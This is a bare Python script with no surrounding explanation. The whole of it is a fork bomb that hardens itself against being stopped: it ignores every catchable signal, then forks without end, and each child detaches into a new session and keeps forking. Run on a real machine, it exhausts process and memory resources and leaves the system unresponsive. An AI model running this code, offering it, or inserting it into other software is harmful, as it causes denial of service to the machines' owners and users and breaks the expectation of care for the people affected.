import os, signal
for number in range(1, 65):
  try: signal.signal(number, signal.SIG_IGN)
  except (OSError, ValueError): pass
while True:
  try:
    if os.fork() == 0: os.setsid()
  except OSError: pass
